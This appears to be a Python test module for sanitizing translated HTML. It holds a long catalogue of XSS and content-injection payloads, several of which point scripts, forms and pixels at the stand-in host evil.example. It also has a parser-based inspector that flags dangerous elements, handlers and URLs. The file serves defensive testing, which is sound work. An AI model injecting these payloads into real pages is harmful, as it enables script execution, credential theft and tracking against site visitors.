"""Known XSS / content-injection vectors for translated HTML, and an inspector for the output.

Reusable outside `test_xss.py` (the full-page build tests run the same vectors):

- `VECTORS`: payloads that must never reach a page: a translation carrying one must look up as
  "invalid", and the sanitizer must remove what makes each dangerous.
- `TEXT_ONLY`: payloads that are harmless *text* (escaped markup); they may render, as text.
- `ENGLISH_KEY`, `TRANSLATION`, `ENGLISH_URLS`: a valid English block and its translation (one link,
  one anchor, two placeholders) that the payloads are inserted into; see `carriers()`.
- `unsafe_reasons(html, allowed_urls)`: parses `html` like a browser (html5lib, and the stdlib
  parser) and lists everything dangerous in it: script-capable or content-loading elements, event
  handlers, style, javascript:/vbscript:/data: URLs, URLs to other sites.  Empty list = safe.
"""
from __future__ import annotations

import re
from collections.abc import Iterable

from bs4 import BeautifulSoup, Comment

BASE64_SCRIPT = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="  # "<script>alert(1)</script>"

# (name, payload).  Payloads are inserted into otherwise valid translations, with the right
# placeholders, so the payload is the only problem.
VECTORS: list[tuple[str, str]] = [
    # --- event handlers on many tags
    ("img-onerror", "<img src=x onerror=alert(1)>"),
    ("p-onclick", '<p onclick="alert(1)">点击</p>'),
    ("a-onmouseover", '<a onmouseover="alert(1)">悬停</a>'),
    ("span-onfocus-autofocus", "<span onfocus=alert(1) tabindex=0 autofocus>x</span>"),
    ("strong-onmouseenter", "<strong onmouseenter=alert(1)>粗体</strong>"),
    ("em-onanimationstart", '<em onanimationstart=alert(1) style="animation-name:x">x</em>'),
    ("body-onload", "<body onload=alert(1)>"),
    ("video-source-onerror", "<video><source onerror=alert(1)></video>"),
    ("audio-onerror", "<audio src=x onerror=alert(1)>"),
    ("details-ontoggle", "<details open ontoggle=alert(1)><summary>x</summary></details>"),
    ("input-onfocus", "<input autofocus onfocus=alert(1)>"),
    ("marquee-onstart", "<marquee onstart=alert(1)>x</marquee>"),
    ("select-onfocus", "<select autofocus onfocus=alert(1)></select>"),
    ("textarea-onfocus", "<textarea autofocus onfocus=alert(1)>x</textarea>"),
    ("div-onpointerover", "<div onpointerover=alert(1)>x</div>"),
    ("code-ONCLICK-uppercase", "<code ONCLICK=alert(1)>x</code>"),
    ("br-onmouseover", "<br onmouseover=alert(1)>"),
    ("span-slash-separator", "<span/onmouseover=alert(1)>x</span>"),
    ("img-eval-src", "<img src=x:alert(1) onerror=eval(src)>"),
    ("allowed-link-with-onclick",
     '<a href="https://arxiv.org/abs/1706.03762" onclick="alert(1)">论文</a>'),
    ("placeholder-span-onclick", "<span translate=no onclick=alert(1)>x</span>"),
    # --- javascript: and friends, in several encodings
    ("js-plain", '<a href="javascript:alert(1)">x</a>'),
    ("js-mixed-case", '<a href="JaVaScRiPt:alert(1)">x</a>'),
    ("js-decimal-entity", '<a href="&#106;avascript:alert(1)">x</a>'),
    ("js-hex-entity", '<a href="&#x6A;avascript:alert(1)">x</a>'),
    ("js-padded-entities-no-semicolon",
     '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105'
     '&#0000112&#0000116&#0000058alert(1)">x</a>'),
    ("js-raw-tab", '<a href="java\tscript:alert(1)">x</a>'),
    ("js-entity-tab", '<a href="java&#x09;script:alert(1)">x</a>'),
    ("js-named-tab", '<a href="java&Tab;script:alert(1)">x</a>'),
    ("js-raw-newline", '<a href="java\nscript:alert(1)">x</a>'),
    ("js-entity-newline", '<a href="jav&#x0A;ascript:alert(1)">x</a>'),
    ("js-leading-spaces", '<a href="   javascript:alert(1)">x</a>'),
    ("js-leading-control", '<a href="\x01javascript:alert(1)">x</a>'),
    ("js-leading-entity-control", '<a href="&#14;javascript:alert(1)">x</a>'),
    ("js-colon-entity", '<a href="javascript&colon;alert(1)">x</a>'),
    ("js-unquoted", "<a href=javascript:alert(1)>x</a>"),
    ("js-comment-newline", '<a href="javascript://%0Aalert(1)">x</a>'),
    ("js-double-encoded", '<a href="&#x26;#x6A;avascript:alert(1)">x</a>'),
    ("vbscript", '<a href="vbscript:msgbox(1)">x</a>'),
    ("data-base64", f'<a href="data:text/html;base64,{BASE64_SCRIPT}">x</a>'),
    ("data-uppercase", '<a href="DATA:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">x</a>'),
    ("xlink-href", '<a xlink:href="javascript:alert(1)">x</a>'),
    ("blockquote-cite", '<blockquote cite="javascript:alert(1)">x</blockquote>'),
    ("table-background", '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>'),
    # --- SVG and MathML
    ("svg-script", "<svg><script>alert(1)</script></svg>"),
    ("svg-onload", "<svg onload=alert(1)>"),
    ("svg-a-xlink", '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>'),
    ("svg-animate-onbegin", "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>"),
    ("svg-style-img", "<svg><style><img src=x onerror=alert(1)></style></svg>"),
    ("svg-use-data",
     '<svg><use href="data:image/svg+xml;base64,PHN2ZyB4bWxucz0naHR0cDovL3d3dy53My5vcmcvMjAwMC'
     '9zdmcnPjxpbWFnZSBocmVmPScxJyBvbmVycm9yPSdhbGVydCgxKScvPjwvc3ZnPg==#x"></use></svg>'),
    ("math-mglyph-style",
     "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    ("math-href", '<math href="javascript:alert(1)">x</math>'),
    ("math-mi-xlink", '<math><mi xlink:href="javascript:alert(1)">x</mi></math>'),
    # --- broken, nested and hidden tags
    ("script-plain", "<script>alert(1)</script>"),
    ("script-src-uppercase", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>"),
    ("script-double-open", "<<script>script>alert(1)<</script>/script>"),
    ("script-split-name", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("img-unclosed-attribute", '<img src="x onerror=alert(1)//'),
    ("a-broken-attribute",
     '<a href="https://arxiv.org/abs/1706.03762"<img src=x onerror=alert(1)>>论文</a>'),
    ("title-with-markup", '<a title="</a><img src=x onerror=alert(1)>">x</a>'),
    ("comment-hiding-img", "<!--<img src=x onerror=alert(1)>-->"),
    ("comment-breakout", "<!--><script>alert(1)</script>-->"),
    ("cdata", "<![CDATA[<script>alert(1)</script>]]>"),
    ("processing-instruction", '<?xml-stylesheet href="//evil.example/x.xsl"?>'),
    ("noscript-mxss", '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'),
    ("template-script", "<template><script>alert(1)</script></template>"),
    ("xmp-script", "<xmp><script>alert(1)</script></xmp>"),
    # --- content that loads or submits elsewhere
    ("style-import", "<style>@import '//evil.example/x.css';</style>"),
    ("iframe-srcdoc", '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>'),
    ("iframe-js", '<iframe src="javascript:alert(1)"></iframe>'),
    ("object-data", f'<object data="data:text/html;base64,{BASE64_SCRIPT}"></object>'),
    ("embed-src", '<embed src="//evil.example/x.swf">'),
    ("form-action", '<form action="//evil.example/collect"><button>提交</button></form>'),
    ("button-formaction", '<button formaction="javascript:alert(1)">x</button>'),
    ("base-href", '<base href="//evil.example/">'),
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
    ("link-stylesheet", "<link rel=stylesheet href=//evil.example/x.css>"),
    ("img-outside-protocol-relative", '<img src="//evil.example/pixel.gif">'),
    ("img-outside-https", '<img src="https://evil.example/pixel.gif">'),
    ("img-srcset", '<img srcset="//evil.example/x.png 1x">'),
    ("style-background-url", '<span style="background:url(//evil.example/x.png)">x</span>'),
    ("style-overlay",
     '<a href="https://arxiv.org/abs/1706.03762" style="position:fixed;inset:0">论文</a>'),
    ("a-ping", '<a ping="//evil.example/track" href="https://arxiv.org/abs/1706.03762">论文</a>'),
    # --- links and ids the English does not have
    ("a-protocol-relative", '<a href="//evil.example">x</a>'),
    ("a-outside-https", '<a href="https://evil.example/phish">论文</a>'),
    ("a-backslashes", '<a href="\\\\evil.example">x</a>'),
    ("a-slash-backslash", '<a href="/\\evil.example">x</a>'),
    ("a-mailto-added", '<a href="mailto:x@evil.example">x</a>'),
    ("a-id-clobbering", '<a id="__proto__">x</a>'),
]

# Escaped markup is text: it may render, but only as text.
TEXT_ONLY: list[tuple[str, str]] = [
    ("escaped-script", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    ("escaped-img", "&lt;img src=x onerror=alert(1)&gt;"),
    ("js-in-prose", "javascript:alert(1) 不是链接"),
]

# A valid block (heading, paragraph with a link, an anchor and two placeholders) and its translation.
ENGLISH_KEY = (
    '<p><a id="scores"></a></p>\n'
    "<h2>Attention scores</h2>\n"
    "<p>Scores are <span translate=no>_^_0_^_</span>, scaled by <span translate=no>_^_1_^_</span>"
    ' as in <a href="https://arxiv.org/abs/1706.03762">the paper</a>.</p>\n'
)
TRANSLATION = (
    '<p><a id="scores"></a></p>\n'
    "<h2>注意力分数</h2>\n"
    "<p>分数为<span translate=no>_^_0_^_</span>，按<span translate=no>_^_1_^_</span>缩放，"
    '见<a href="https://arxiv.org/abs/1706.03762">论文</a>。{inside}</p>\n{after}'
)
ENGLISH_URLS = ("https://arxiv.org/abs/1706.03762",)
ENGLISH_IDS = ("scores",)

# A one-paragraph block for payloads riding alone.
SIMPLE_KEY = "<p>Scores use <span translate=no>_^_0_^_</span> here.</p>\n"
SIMPLE_TRANSLATION = "<p>分数使用<span translate=no>_^_0_^_</span>。{inside}</p>\n{after}"


def carriers(payload: str) -> list[tuple[str, str, str]]:
    """(where, english key, translation carrying `payload`) for each way of smuggling it in."""
    return [
        ("alone-in-paragraph", SIMPLE_KEY, SIMPLE_TRANSLATION.format(inside=payload, after="")),
        ("with-valid-html", ENGLISH_KEY, TRANSLATION.format(inside=payload, after="")),
        ("after-last-block", ENGLISH_KEY, TRANSLATION.format(inside="", after=payload)),
        ("inside-link-text", ENGLISH_KEY,
         TRANSLATION.format(inside="", after="").replace(">论文<", f">论文{payload}<")),
    ]


# --- inspection --------------------------------------------------------------------------------

DANGEROUS_ELEMENTS = frozenset(
    {"script", "style", "iframe", "frame", "frameset", "object", "embed", "applet", "form",
     "button", "input", "select", "textarea", "base", "meta", "link", "svg", "math", "img",
     "video", "audio", "source", "track", "image", "use", "animate", "set", "template",
     "noscript", "xmp", "marquee", "body", "portal"}
)
# `details` is prose now (folded answers, markup.ALLOWED_TAGS); what made it a vector is its
# attributes (`open ontoggle=…` fires with no click), and those are checked as attributes.
SAFE_SCHEMES = frozenset({"http", "https", "mailto"})
PAGE_CONTINUES = '"\'></a></p><p>the page goes on</p>'
_FRAGMENT_WRAPPERS = frozenset({"html", "head", "body", "[document]"})


def _scheme(url: str) -> str | None:
    cleaned = re.sub(r"[\x00-\x20\x7f]", "", url).lower()
    m = re.match(r"([a-z][a-z0-9+.\-]*):", cleaned)
    return m.group(1) if m else None


def _parsers() -> list[str]:
    try:
        import html5lib  # noqa: F401 - browser-grade parsing when available
    except ImportError:
        return ["html.parser"]
    return ["html5lib", "html.parser"]


def unsafe_reasons(html: str, allowed_urls: Iterable[str] | None = None) -> list[str]:
    """Everything dangerous a browser would find in `html`; [] when it is safe.

    `allowed_urls`: URLs that may appear (those of the English); None allows any http(s) URL but
    still rejects protocol-relative ones.
    """
    allowed = None if allowed_urls is None else set(allowed_urls)
    reasons = []
    for parser in _parsers():
        # Parse the fragment as the page continues after it: an unclosed quote or tag in the
        # fragment would swallow the page's own markup and come alive there.
        soup = BeautifulSoup(html + PAGE_CONTINUES, parser)
        html5 = parser == "html5lib"  # wraps a fragment in html/head/body: not the payload's
        for node in soup.find_all(string=lambda s: isinstance(s, Comment)):
            reasons.append(f"{parser}: comment {str(node)[:40]!r}")
        for element in soup.find_all(True):
            name = element.name.lower()
            if name in DANGEROUS_ELEMENTS and not (html5 and name in _FRAGMENT_WRAPPERS):
                reasons.append(f"{parser}: element <{name}>")
            for attr, value in element.attrs.items():
                values = value if isinstance(value, list) else [value]
                text = " ".join(str(v) for v in values)
                lowered = attr.lower()
                if lowered.startswith("on"):
                    reasons.append(f"{parser}: event handler {attr} on <{name}>")
                if lowered in {"style", "srcdoc", "formaction", "action", "srcset", "ping",
                               "background", "xlink:href", "data", "content", "http-equiv"}:
                    reasons.append(f"{parser}: attribute {attr} on <{name}>")
                if lowered in {"href", "src", "cite"}:
                    scheme = _scheme(text)
                    stripped = re.sub(r"[\x00-\x20\x7f]", "", text)
                    if scheme is not None and scheme not in SAFE_SCHEMES:
                        reasons.append(f"{parser}: {scheme}: URL in {attr} on <{name}>")
                    elif stripped[:2] in {"//", "\\\\", "/\\", "\\/"}:
                        reasons.append(f"{parser}: protocol-relative URL in {attr} on <{name}>")
                    elif allowed is not None and text.strip() not in allowed:
                        reasons.append(f"{parser}: URL {text!r} not in the English")
                if "<" in text or ">" in text:
                    reasons.append(f"{parser}: markup inside attribute {attr} on <{name}>")
                if "javascript:" in re.sub(r"[\x00-\x20\x7f]", "", text).lower():
                    reasons.append(f"{parser}: javascript: in {attr} on <{name}>")
    return reasons
